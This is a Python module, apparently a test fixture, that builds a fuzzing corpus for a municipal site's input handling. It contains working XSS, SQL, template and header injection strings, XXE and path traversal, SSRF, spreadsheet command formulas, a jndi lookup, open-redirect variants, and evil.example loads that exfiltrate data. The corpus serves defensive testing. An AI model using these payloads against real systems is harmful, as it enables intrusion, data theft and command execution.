"""Hostile and awkward texts, made here family by family; and texts that look awkward and are nothing but language."""

from collections.abc import Iterator
from functools import cache
from html import escape
from itertools import product
from urllib.parse import quote

CALLS = ("alert(1)", "alert`1`", "confirm(1)", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))")
TAGS = ("img", "svg", "body", "iframe", "video", "audio", "details", "input", "marquee", "object", "math", "a", "x-y")
EVENTS = (
    *("onerror", "onload", "onfocus", "onclick", "ontoggle", "onmouseover", "onanimationstart", "onbegin"),
    *("onpointerenter", "onscroll", "onbeforeinput", "onpageshow"),
)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\x03script:", "\x01javascript:"),
    *(" javascript:", "javascript\u200b:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;"),
    *("vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "feed:javascript:"),
    *("jar:", "view-source:javascript:", "blob:", "livescript:", "mocha:", "javascript://%0a", "http://javascript:"),
)


def markup() -> Iterator[str]:
    """Elements that act, written in the ways that careless cleaners let through."""
    for tag, event in product(TAGS, EVENTS[:6]):
        yield f"<{tag} {event}={CALLS[0]}>"
    for event in EVENTS:
        yield f"<svg><animate {event}={CALLS[1]} attributeName=x dur=1s>"
        yield f"<{TAGS[12]} id=x tabindex=1 {event}={CALLS[2]} autofocus>"
    yield from (f"<script>{call}</script>" for call in CALLS)
    yield from (
        *(
            "<SCRIPT SRC=//evil.example/x></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\x00>alert(1)",
        ),
        *("<script/x>alert(1)</script/y>", "<<script>alert(1);//<</script>", "<script\n>alert(1)</script\t\n>"),
        *("<img src=x onerror\x00=alert(1)>", "<img/src='x'/onerror='alert(1)'>", "<img src=`x` onerror=`alert(1)`>"),
        *("<img src=x:x onerror=alert(1)//", "<img src onerror=alert(1) ", "<img\x0bsrc=x\x0bonerror=alert(1)>"),
        *(
            "<iframe srcdoc='<script>parent.alert(1)</script>'>",
            "<object data='data:text/html,<script>alert(1)</script>'>",
        ),
        *("<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
        *("<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><input name=password>"),
        *(
            "<button formaction=javascript:alert(1)>x",
            "<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>",
        ),
        *(
            "<template><script>alert(1)</script></template>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        ),
        *("<xmp><p title='</xmp><svg/onload=alert(1)>'>", "<plaintext>", "<listing>&lt;img onerror=alert(1)&gt;"),
        *(
            "<dialog open>x</dialog>",
            "<input type=hidden name=_csrf_token value=x>",
            "<textarea autofocus onfocus=alert(1)>",
        ),
        *(
            "<portal src=//evil.example>",
            "<embed src=javascript:alert(1)>",
            "<applet code=x>",
            "<bgsound src=javascript:alert(1)>",
        ),
        *("<div popover id=p><button popovertarget=p onclick=alert(1)>", "<fencedframe src=//evil.example>"),
        *("<search onclick=alert(1)>", "<slot name=x onslotchange=alert(1)>", "<permission type=camera>"),
    )


def mutations() -> Iterator[str]:
    """Markup that a parser reads otherwise the second time: SVG, MathML, tables, comments, CDATA."""
    yield from (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<math><mtext><mglyph><style><math></style><img src onerror=alert(1)></style></math>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<svg><style>&lt;img src=1 onerror=alert(1)&gt;</style></svg>",
        "<svg><title><![CDATA[</title><script>alert(1)</script>]]></svg>",
        "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)><a><text y=20>klik</text></a></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<svg><discard onbegin=alert(1)>",
        "<math href=javascript:alert(1)>klik</math>",
        "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>klik</maction></math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
        "<table><td background=javascript:alert(1)>",
        "<table><caption><svg/onload=alert(1)></table>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<select><template><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<!--!><img src=x onerror=alert(1)>--!>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</option></select><img src=x onerror=alert(1)>",
        "</td></tr></table><img src=x onerror=alert(1)>",
        "</a></h1></main></body></html><script>alert(1)</script>",
        "<p/><b/><i/><a id=main name=forms>",
        "<a id=live-told><a id=main name=cookie href=//evil.example>",
        "<img name=body><form id=x><input name=attributes>",
    )


def attributes() -> Iterator[str]:
    """Out of a quoted or unquoted attribute, and into one."""
    for mark, event in product(('"', "'", "`", "", '\\"', "&quot;", "&#34;", "\u201d", "％22"), EVENTS[:4]):
        yield f"x{mark} {event}={CALLS[0]} x={mark}"
    yield from (
        '" autofocus tabindex=1 onfocus=alert(1) "',
        "' style='x:expression(alert(1))",
        '"><svg/onload=alert(1)>',
    )
    yield from ("'><script>alert(1)</script>", '"/><img src=x onerror=alert(1)><"', "--><script>alert(1)</script><!--")
    yield from (
        '" data-src="//evil.example" data-live="queue',
        '" formaction="//evil.example',
        '" href="javascript:alert(1)',
    )
    yield from (
        '" srcdoc="<script>alert(1)</script>',
        '" is="x-y',
        '" http-equiv="refresh" content="0;url=//evil.example',
    )


def scripts_and_styles() -> Iterator[str]:
    """For a place inside a script or a stylesheet, should there ever be one."""
    yield from (
        *("';alert(1)//", '";alert(1)//', "\\';alert(1)//", "${alert(1)}", "`-alert(1)-`", "</script>"),
        *("\u2028alert(1)//", "<!--", "-->", "//-->\nalert(1)", "*/alert(1)/*", "'-alert(1)-'", "\\x3cscript\\x3e"),
        *("\\u003cscript\\u003ealert(1)", "[].constructor.constructor('alert(1)')()", "constructor", "__proto__"),
        *(
            '{"__proto__":{"x":1}}',
            "toString",
            "hasOwnProperty",
            "javascript:/*--></title></style></textarea>*/alert(1)",
        ),
        *("expression(alert(1))", "url(javascript:alert(1))", "@import '//evil.example/x.css';", "behavior:url(x.htc)"),
        *("*{display:none!important}", "body{background:url(//evil.example/?x)}", "-moz-binding:url(//evil.example)"),
        *(
            "}</style><script>alert(1)</script>",
            "\\65xpression(alert(1))",
            "input[value^=a]{background:url(//evil.example/a)}",
        ),
    )


def links() -> Iterator[str]:
    """Addresses that do something else than lead to a page."""
    yield from (f"{scheme}{CALLS[0]}" for scheme in SCHEMES)
    yield from (f"[klik]({scheme}{CALLS[0]})" for scheme in SCHEMES[:12])
    yield from (
        *("https://waterveen.example@evil.example/", "https://evil.example\\@waterveen.example", "https:evil.example"),
        *(
            "https:///evil.example",
            "https:\\\\evil.example",
            "http://[::1",
            "http://[",
            "http://x:99999/",
            "http://x.nl:0/",
        ),
        *('https://a.example/"onmouseover=alert(1)//', "https://a.example/'><script>alert(1)</script>"),
        *("https://a.example/<svg/onload=alert(1)>", "https://a.example/?q=\u202egnp.exe", "http://а.example/ㅤ"),
        *(
            "https://a.example/" + "x" * 400,
            "http://" + "a." * 120 + "nl",
            "https://а\u0440\u0440\u04cf\u0435.com/login",
        ),
        *(
            "![x](https://tracker.example/p.png)",
            "[x]: https://evil.example 'onclick=alert(1)'",
            "<https://evil.example/\x07>",
        ),
        *(
            "[x](<javascript:alert(1)>)",
            '[x](https://a.example "><img src=x onerror=alert(1)>")',
            "<javascript:alert(1)>",
        ),
        *(
            "http://169.254.169.254/latest/meta-data/",
            "file:///etc/passwd",
            "gopher://127.0.0.1:25/_MAIL",
            "\\\\evil.example\\x",
        ),
    )


def entities_and_encodings() -> Iterator[str]:
    """Markup under other names: entities, percent signs, UTF-7, full-width, overlong, other alphabets' brackets."""
    base = "<script>alert(1)</script>"
    yield from (escape(base), escape(escape(base)), quote(base), quote(quote(base)))
    yield "".join(f"&#{ord(sign)};" for sign in base)
    yield "".join(f"&#x{ord(sign):x}" for sign in base)
    yield "".join(f"&#{ord(sign):07}" for sign in base)
    yield "".join(f"\\u{ord(sign):04x}" for sign in base)
    yield "".join(f"\\x{ord(sign):02x}" for sign in base)
    yield "".join(f"%u{ord(sign):04x}" for sign in base)
    yield "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in base)
    yield from (
        base.replace("<", left).replace(">", right) for left, right in ("‹›", "〈〉", "＜＞", "﹤﹥", "≮≯", "⟨⟩")
    )
    yield from (
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+/v8 +ADw-script+AD4-",
        "\x1b$B<script>\x1b(B",
        "\xc0\xbcscript\xc0\xbe",
    )
    yield from ("<ſcript>alert(1)</ſcript>", "<ıframe>", "<K onclick=alert(1)>", "<img src=x onerror=\uff41lert(1)>")
    yield from (
        "&lt;b&gt;vet&lt;/b&gt;",
        "&amp;amp;",
        "&nbsp;&ZeroWidthSpace;&shy;",
        "&#0;&#xD800;&#x110000;",
        "&NotEqualTilde;",
        "&copy=1",
    )
    yield from (
        "&lt",
        "&#60",
        "&",
        "&&&&",
        "&;",
        "&#;",
        "&#x;",
        "AT&T",
        "R&D; & meer",
        "&bsol;",
        "<",
        ">",
        "<>",
        "< b >",
        "a<b>c",
        "1 < 2 > 0",
    )


def template_signs() -> Iterator[str]:
    """What template engines, formatters, shells and catalogues give a meaning."""
    yield from (
        *(
            "{{ 7*7 }}",
            "{{7*'7'}}",
            "{% raw %}{% endraw %}",
            "{%print(1)%}",
            "{# weg #}",
            "{{ config }}",
            "{{ shell.settings.secret }}",
        ),
        *("{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        *(
            "{{ request.application }}",
            "{{ self }}",
            "{{ csrf_input }}",
            "{%- include '/etc/passwd' -%}",
            "}}{{",
            "%}{%",
            "{{{{}}}}",
        ),
        *(
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{=7*7}}",
            "@(7*7)",
            "*{7*7}",
            "[[${7*7}]]",
            "$(id)",
            "`id`",
            "; id",
            "| id",
            "&& id",
        ),
        *(
            "%s",
            "%d",
            "%(title)s",
            "%(name)s",
            "%(x)s %",
            "100%",
            "%%",
            "%n%n%n%n",
            "%08x",
            "%1$s",
            "% d",
            "%(",
            "50 % korting",
            "%c0%ae",
        ),
        *(
            "{0}",
            "{}",
            "{title}",
            "{0.__class__}",
            "{0!r:>9999}",
            "{:>99999999}",
            "{",
            "}",
            "{{",
            "}}",
            "{n}",
            "$&",
            "$1",
            "$`",
            "\\1",
            "\\g<0>",
        ),
        *(
            "#!/bin/sh",
            "() { :; }; id",
            "!!python/object/apply:os.system [id]",
            "<?php phpinfo(); ?>",
            "<!--#exec cmd='id'-->",
        ),
        *(
            "${jndi:ldap://evil.example/x}",
            "~/.ssh/id_rsa",
            "$HOME",
            "!id",
            "^x^y",
            "\\",
            "\\\\",
            "\\n",
            "\\0",
            "'",
            '"',
            "''",
            '""',
            "`",
        ),
    )


def headers_and_addresses() -> Iterator[str]:
    """Line ends, headers, encoded words, and what could be a second receiver."""
    for end in (
        "\r\n",
        "\n",
        "\r",
        "%0d%0a",
        "\\r\\n",
        "\u2028",
        "\u2029",
        "\x85",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1d",
        "\x1e",
        "嘊嘍",
        "\r\n ",
    ):
        yield f"Hallo{end}Bcc: evil@evil.example"
    for header in (
        "Subject",
        "Content-Type",
        "Set-Cookie",
        "Location",
        "X-Accel-Redirect",
        "List-Unsubscribe",
        "Return-Path",
    ):
        yield f"x\r\n{header}: evil\r\n\r\n<script>alert(1)</script>"
    yield from (
        *(
            "=?utf-8?q?=0D=0ABcc=3A_evil=40evil.example?=",
            "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
            "=?x?q?=?=",
            "=?utf-8?q?",
        ),
        *(
            "=?iso-8859-1?q?=3Cscript=3E?=",
            "=?\u200butf-8?q?x?=",
            "==?utf-8?q?a?==",
            "=?utf-8?q?=00?=",
            "=?us-ascii*en?q?a?=",
        ),
        *(
            "a@b.nl, evil@evil.example",
            '"a@b.nl, evil@x"@evil.example',
            "Jan <evil@evil.example>",
            "a@b.nl;evil@evil.example",
        ),
        *(
            "<evil@evil.example>",
            "evil@evil.example\r\n",
            "a@b@evil.example",
            "a@[127.0.0.1]",
            "a@b.nl (evil@evil.example)",
            "(x)a@b.nl",
        ),
        *(
            '"\r\nBcc: evil@evil.example"@b.nl',
            "a%evil.example@b.nl",
            "a!b@evil.example",
            "undisclosed-recipients:;",
            "groep: a@b.nl, c@d.nl;",
        ),
        *(
            "\\@b.nl",
            "a@b.nl\u2028Bcc: evil@evil.example",
            "a@b.nl\x00evil@evil.example",
            "mailto:a@b.nl?bcc=evil@evil.example",
            "a@\u2100.nl",
        ),
        *(
            ".",
            "\r\n.\r\n",
            ".\r\nMAIL FROM:<evil@evil.example>",
            "From evil@evil.example Mon Jan  1 00:00:00 2026",
            ">From x",
            "--==boundary==--",
        ),
        *(
            "-- \nJan",
            "Content-Transfer-Encoding: base64",
            "=3D=0A",
            "begin 644 x.exe",
            "Date: nu",
            ":",
            " : ",
            "\t: x",
            "List-Id: <x.evil.example>",
        ),
    )


def databases_and_paths() -> Iterator[str]:
    """SQL, patterns, documents' queries, directories and files."""
    yield from (
        *(
            "' OR '1'='1",
            "'; DROP TABLE idea;--",
            '" OR ""="',
            "1) OR 1=1--",
            "' UNION SELECT email FROM person--",
            "\\'; SELECT 1;--",
        ),
        *(
            "'||(SELECT 1)||'",
            "1; SELECT pg_sleep(9)",
            "'; ATTACH DATABASE '/tmp/x' AS x;--",
            "$$; SELECT 1; $$",
            ":naam",
            "?",
            "@x",
            "%",
            "_",
            "%_%",
        ),
        *(
            "[a-z]*",
            "\\%",
            "x' AND randomblob(999999999) AND '1",
            "NULL",
            "null",
            "None",
            "undefined",
            "NaN",
            "true",
            "0",
            "-1",
            "''''",
            "1e999",
        ),
        *(
            '{"$gt": ""}',
            "*)(uid=*))(|(uid=*",
            "' or count(//*)=1 or '",
            'MATCH "x',
            "NEAR(",
            "a AND OR NOT (",
            "to_tsquery('&')",
            "x:*",
        ),
        *(
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd\x00.png",
            "....//....//",
            "%2e%2e%2f",
            "..%252f",
            "..%c0%af",
            "/dev/null",
        ),
        *(
            "CON",
            "NUL",
            "aux.txt",
            "C:\\x",
            'file.csv"; filename="x.exe',
            "x.csv\r\nX: y",
            "a/b",
            ".",
            "..",
            "...",
            " ",
            "~",
            "*",
            "?x=1#y",
            "\uff0e\uff0e\uff0f",
        ),
    )


def spreadsheets() -> Iterator[str]:
    """What a spreadsheet could take for a formula, also behind what it passes over."""
    formulas = (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("//evil.example?"&A1;"klik")',
        '=IMPORTXML("//evil.example";"//a")',
    )
    yield from formulas
    for before in (
        "\t",
        "\r",
        "\n",
        " ",
        "'",
        '"',
        "\ufeff",
        "\u200b",
        "\u00a0",
        "\u3000",
        "“",
        "x;",
        'x;"',
        "x\n",
        "x\t",
        "x\r",
        "x,",
        "x|",
        "'' ",
        "‘",
        "\u200e",
    ):
        yield f"{before}{formulas[4]}"
    yield from (
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "−1+1",
        "﹦1+1",
        "%0A=1+1",
        '=1+1";=1+1;"',
        "x;=1;+1;-1;@a",
        'DDE("cmd";"/C calc";"x")',
        "-5 graden",
        "+31 6 12345678",
    )
    yield from (
        "=\t1+1",
        "= 1+1",
        "==1",
        "=-1",
        "-=1",
        "@@",
        "+",
        "-",
        "=",
        "@",
        "- bankjes\n- bomen",
        "--",
        "->",
        "=>",
        "-)",
        "+1",
        "-1",
        "@jan",
        "=)",
        "1-2-2026",
        "1E10",
        "0001",
        "1/2",
    )


def calendars_and_cards() -> Iterator[str]:
    """Lines of iCalendar and vCard, with all its signs."""
    yield from (
        *(
            "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil",
            "x\nATTACH:http://evil.example/x",
            "x\\nATTENDEE:mailto:evil@evil.example",
        ),
        *(
            "END:VCALENDAR",
            "BEGIN:VALARM\nACTION:AUDIO\nEND:VALARM",
            ";VALUE=URI:http://evil.example",
            ":;,\\",
            "a\\;b\\,c\\\\d",
            "\\N\\n",
        ),
        *(
            "X-EVIL:1",
            "x\r\n ORGANIZER:evil",
            "\r\n\tRRULE:FREQ=SECONDLY",
            "^n^'^^",
            "DTSTART:19700101T000000Z",
            '";ALTREP="http://evil.example',
        ),
        *(
            "END:VCARD\nBEGIN:VCARD\nEMAIL:evil@evil.example",
            "N:;;;;",
            "é" * 80,
            "🪑" * 40,
            "a" * 74 + "é" + "b" * 74,
            "x\u2028END:VEVENT",
            "x\x85END:VEVENT",
        ),
    )


def unseen() -> Iterator[str]:
    """What nobody sees, or what piles up: directions, joiners, tags, private and no characters, accents on accents."""
    for sign in (
        "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x80\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u200e\u200f"
    ):
        yield f"be{sign}stuur"
    turns = "\u202a\u202b\u202c\u202d\u202e\u2060\u2063\u2066\u2067\u2068\u2069\u206a\u3164\ufe0f\ufeff"
    for sign in turns + "\ufff9\ufffc\uffa0\U000e0001\U000e0061\U000e0100":
        yield f"be{sign}stuur"
    for code in (
        0xFDD0,
        0xFDEF,
        0xFFFE,
        0xFFFF,
        0x1FFFE,
        0x10FFFF,
        0xE000,
        0xF8FF,
        0xF0000,
        0x10FFFD,
        0xD800,
        0xDBFF,
        0xDC00,
        0xDFFF,
        0x1D173,
    ):
        yield f"teken{chr(code)}"
    pile = "\u0300\u0316\u0327\u0338\u0489\u20dd\ufe20"
    yield from (
        "H" + pile * 9 + "a" + pile * 9,
        "e" + "\u0301" * 60,
        "ส" + "็" * 40,
        "ا" + "\u064e" * 30,
        "\u0301" * 20 + "los",
        " \u0489 los",
    )
    yield from (
        "\u202egnp.exe",
        "a\u202eb\u2066c\u2069d",
        "\u2067(rtl)\u2069",
        "\ud83e",
        "\udd91 half",
        "x\U000e0061\U000e0062\U000e007f",
        "\U0001f3f4\U000e0061\U000e007f",
    )
    yield from (
        "\u200b" * 50,
        "\u3164" * 5,
        "\u2800" * 5,
        "\ufe0f\u200d" * 20,
        "\u00a0\u3000\u2003",
        "\u202e",
        "\x00",
        "\ufeff",
        "v\u200di\u200dr\u200du\u200ds",
    )
    yield from (
        "\ufe0f1\ufe0f2",
        "a\U000e0101b\U000e0102",
        "1\u20e3\u20e3\u20e3\u20e3",
        "👩\u200d\u200d\u200d👩",
        "ﷺ" * 20,
        "𒐫" * 20,
        "꧅" * 20,
        "｡ﾟ" * 20,
    )


def names() -> Iterator[str]:
    """Names that want to be taken for somebody with a task."""
    yield from (
        "Moderator",
        "M0derator",
        "Мoderаtor",
        "ＭＯＤＥＲＡＴＯＲ",
        "m o d e r a t o r",
        "Mod\u200berator",
        "Gemeente Waterveen",
        "De secretaris",
    )
    yield from (
        "🅼🅾🅳🅴🆁🅰🆃🅾🆁",
        "Sеcrеtаriааt",
        "Modérátör",
        "moderat\u043er \u202e",
        "Voorzitter",
        "KIankbord",
        "Klankb0rd",
        "Burgemeester De Vries",
        "admin",
    )


def numbers_and_sizes() -> Iterator[str]:
    """Beyond what a column, a counter or a date holds; long; deep."""
    yield from (
        str(2**31),
        str(2**31 - 1),
        str(-(2**31) - 1),
        str(2**63),
        str(2**64),
        "9" * 5_000,
        "-0",
        "+0",
        "00000000001",
        "1.5",
        "1,5",
        "0x10",
    )
    yield from (
        "1_000",
        "１２",
        "٣",
        "²",
        "½",
        "Ⅳ",
        "①",
        "1e309",
        "-1e309",
        "Infinity",
        "0b1",
        " 1 ",
        "1 2",
        "--1",
        "1\u200b0",
    )
    yield from (
        "0000-00-00",
        "9999-12-31",
        "10000-01-01",
        "0001-01-01",
        "2026-02-30",
        "2026-13-01",
        "24:00",
        "23:59:60",
        "2026-W10-1",
        "20261204",
        "-2026-01-01",
    )
    yield from (
        "x" * 5_000,
        "é" * 5_001,
        "🪑" * 2_500,
        "a b " * 2_000,
        "\n" * 3_000 + "x",
        "x" * 39_999,
        "woord-" * 3_000,
        "\u202b" * 9_000,
    )
    yield from (
        "[" * 3_000,
        '{"a":' * 900,
        "(" * 2_000,
        "<b>" * 1_500,
        ">" * 2_000,
        "*" * 2_000,
        "`" * 999,
        "![" * 900,
        "- " * 900,
        "&amp;" * 900,
    )
    yield from (
        '{"a": 1}',
        "[1, 2]",
        '"tekst"',
        '{"a": {"a": {"a": []}}}',
        '{"a":1,"a":2}',
        "\\ud800",
        "\\u0000",
        '{"x": 1e999}',
        "[" * 50 + "]" * 50,
    )


def logs() -> Iterator[str]:
    """A line of a log of its own, colours, and what a terminal does."""
    yield from (
        'x\nlevel=error event="alles kwijt"',
        "x\r\n2026-11-22 INFO aangemeld als beheerder",
        "\x1b[31mrood\x1b[0m",
        "\x1b]0;titel\x07",
        "\x9b2J",
        "\x08\x08\x08",
        "a\rb",
    )
    yield from (
        '" event="vals',
        'key=value key2="v"',
        '{"event": "vals"}',
        "\x1b[2J\x1b[H",
        "\x07\x07",
        "\u001b]8;;http://evil.example\u0007klik",
        "\x0e\x0f",
    )


EVIL_HOSTS = (
    "evil.example",
    "evil%2eexample",
    "evil.example:80",
    "panel.test.evil.example",
    "panel.test@evil.example",
    "evil。example",
)
BEFORE_HOST = (
    *(
        "//",
        "///",
        "////",
        "/\\",
        "\\\\",
        "\\/",
        "/\\/",
        "http://",
        "https://",
        "HTTP://",
        "http:/",
        "http:",
        "https:\\\\",
    ),
    *(
        "/\t/",
        "/\n/",
        "\t//",
        " //",
        "/ /",
        "%2f%2f",
        "/%2f",
        "/%2F/",
        "/%5c",
        "%5c%5c",
        "//%2f",
        "/%09/",
        "/%0a/",
        "/%0d/",
        "/.//",
        "/..//",
        "/./\\",
    ),
    *(
        "ftp://",
        "javascript:",
        "data:text/html,",
        "//\u200b",
        "／／",
        "/／",
        "⁄⁄",
        "\u2215\u2215",
        "x://",
        "?//",
        "#//",
        "@",
        "/@",
        ":///",
        ";//",
        "/;@",
        "https:@",
    ),
    *("\x01//", "/\u3000/", "\ufeff//", "mailto:", "//user:pass@", "//panel.test\\@"),
)


@cache
def redirects() -> tuple[str, ...]:
    """Addresses to be taken to after signing in or choosing a language: none may lead off the site."""
    found = [f"{before}{host}" for before, host in product(BEFORE_HOST, EVIL_HOSTS)]
    found += [f"{before}evil.example/%2e%2e?x=/#y" for before in BEFORE_HOST[:20]]
    found += [
        "/sign-in?next=//evil.example",
        "/x\r\nLocation: //evil.example",
        "/x\x00//evil.example",
        "/" * 300,
        "/" + "a" * 5_000,
    ]
    found += [
        "",
        " ",
        "/",
        ".",
        "..",
        "javascript:alert(1)",
        "/%",
        "/%zz",
        "/?next=%2f%2fevil.example",
        "[]",
        "//[::1]/",
        "/\ud800",
    ]
    return tuple(dict.fromkeys(found))


LANGUAGES = {
    "Arabisch": "السلام عليكم، أريد مقعدًا بجانب القناة (رقم ٥).",
    "Arabisch met jaartal": "سنة ١٤٤٨ه‍ في الحيّ",
    "Perzisch": "می‌خواهم نیمکت‌های بیشتری کنار آب باشد؛ علی‌رضا",
    "Urdu": "ہمارے محلے میں روشنی کم ہے۔",
    "Hebreeuws": "שָׁלוֹם, אני רוצה ספסל ליד התעלה (מס׳ 5).",
    "Hebreeuws met een richtingsteken": "שלום‏! C++‎ בעברית",
    "Jiddisch": "אַ באַנק בײַם וואַסער",
    "Thais": "อยากได้ม้านั่งริมน้ำที่นี่ค่ะ",
    "Thais met woordgrenzen": "อยาก​ได้​ม้านั่ง",
    "Laotiaans": "ຂ້ອຍຢາກໄດ້ບ່ອນນັ່ງ",
    "Khmer": "ខ្ញុំចង់បានកៅអីនៅមាត់ទឹក",
    "Birmaans": "မြို့ထဲမှာ လျှို့ဝှက် ထိုင်ခုံ",
    "Vietnamees": "Tôi muốn có ghế đá bên kênh ở đường Nguyễn Huệ, được chứ?",
    "Hindi": "मुझे नहर के किनारे बेंच चाहिए, क्‍ष और क्‌ष",
    "Singalees": "ශ්‍රී ලංකාවේ බංකුව",
    "Tamil": "கால்வாய் அருகே இருக்கை வேண்டும்",
    "Malayalam": "അവന്‍ ബെഞ്ചില്‍",
    "Tibetaans": "བསྒྲུབས་པའི་རྐུབ་ཀྱག",
    "Mongools": "ᠮᠣᠩᠭᠣᠯ ᠬᠡᠯᠡ᠊ᠨ᠋ ᠦᠭᠡ",
    "Chinees": "我想在运河边有一张长椅。",
    "Japans": "運河のそばにベンチがほしいです。葛󠄀城市",
    "Koreaans": "운하 옆에 벤치가 있으면 좋겠어요.",
    "Grieks": "Θέλω ένα παγκάκι· ᾧ ἐπίθημα",
    "Russisch": "Хочу скамейку у канала, ещё одну.",
    "Oekraïens": "Я хочу лавку біля каналу, її й ґанок",
    "Turks": "İskele kenarında ışıklı bank istiyorum, ığdır",
    "Pools": "Chcę ławkę nad kanałem, żółć gęślą jaźń",
    "Fries": "Ik wol graach in bankje oan it wetter, lûd en wiis",
    "Nederlands": "Ik wil één bankje bij het ĳs, vóór de coöperatie; ’s avonds zo’n ‘rondje’ – 50 % meer groen!",
    "IJ als één letter": "Ĳsbrand houdt van ĳzer en ﬁetsen",
    "Esperanto": "Ĉu eblas benko ĉe la kanalo, ĝis ŝaŭmo?",
    "Amazigh": "ⴰⵣⵓⵍ, ⵔⵉⵖ ⵜⴰⵏⴱⴰⵛⵜ",
    "Tigrinya": "ሰላም፡ ኣብ ጥቓ ማይ መንበር እደሊ",
    "Adlam": "𞤀𞤣𞤤𞤢𞤥 𞤶𞤮𞤯𞤮𞤪𞤣𞤫",
    "Gebroken letters": "𝔐𝔞𝔱𝔥 ∀x∈ℝ: x² ≥ 0, ½ + ⅓ ≠ 1",
    "Gezinnen": "👨‍👩‍👧‍👦 👩🏽‍🚀 🧑🏿‍🤝‍🧑🏻 👩‍❤️‍💋‍👨",
    "Vlaggen": "🇳🇱 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🏳️‍🌈 🏴‍☠️ 🇺🇦",
    "Tekens": "1️⃣ ©️ ™ ☎︎ ☎️ ❤️‍🔥 🙂‍↔️ 🪑 🫨 🐈‍⬛",
    "Maten": "3×4 m², 5 °C, €10,–, n°5, ±2, 1 000 µg, …",
    "Code": 'if (a < b && c > d) { return "x"; } // 100% & meer',
}
"""Nothing hostile: it comes out exactly as it was typed."""

FAMILIES = {
    "markup": markup,
    "mutations": mutations,
    "attributes": attributes,
    "scripts and styles": scripts_and_styles,
    "links": links,
    "entities and encodings": entities_and_encodings,
    "template signs": template_signs,
    "headers and addresses": headers_and_addresses,
    "databases and paths": databases_and_paths,
    "spreadsheets": spreadsheets,
    "calendars and cards": calendars_and_cards,
    "unseen": unseen,
    "names": names,
    "numbers and sizes": numbers_and_sizes,
    "logs": logs,
}


@cache
def corpus() -> tuple[str, ...]:
    """Every payload once, in the order of the families, languages last."""
    found = [one for family in FAMILIES.values() for one in family()]
    return tuple(dict.fromkeys([*found, *LANGUAGES.values()]))


@cache
def sample(every: int = 6) -> tuple[str, ...]:
    """One in so many of each family, its first and its last among them, and every language."""
    found: list[str] = []
    for family in FAMILIES.values():
        texts = list(family())
        found += [*texts[::every], texts[-1]]
    return tuple(dict.fromkeys([*found, *LANGUAGES.values()]))
